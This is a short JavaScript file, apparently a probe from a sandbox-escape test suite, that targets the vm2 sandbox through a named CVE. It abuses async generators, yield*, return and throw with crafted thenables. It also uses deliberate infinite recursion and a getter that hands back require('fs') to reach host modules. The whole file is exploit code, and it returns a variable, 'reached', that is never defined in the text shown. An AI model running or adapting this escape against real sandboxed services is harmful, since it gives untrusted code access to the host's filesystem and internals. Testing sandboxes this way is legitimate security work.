// Tries: exceptions caught by yield* and return of an async generator (vm2, CVE-2026-45411)
// Contained by: nothing
// With: look
async function attack() {
  const deep = () => deep()
  async function* inner() {
    try {
      yield 1
    } finally {
      yield {
        get then() {
          return deep()
        },
      }
    }
  }
  async function* outer() {
    try {
      yield* inner()
    } catch (error) {
      look('yield*', error)
      throw error
    }
  }
  for (const thenable of [{ then: deep }, { then: (_yes, no) => no(require('integrator-api').exports.run(Symbol())) }, { get then() { return require('fs') } }]) {
    const generator = outer()
    await generator.next()
    await generator.return(thenable).catch((error) => look('return', error))
    await generator.throw(thenable).catch((error) => look('throw', error))
  }
  look('its prototype', Object.getPrototypeOf(outer))
  return reached.length > 0 ? reached : 'nothing'
}
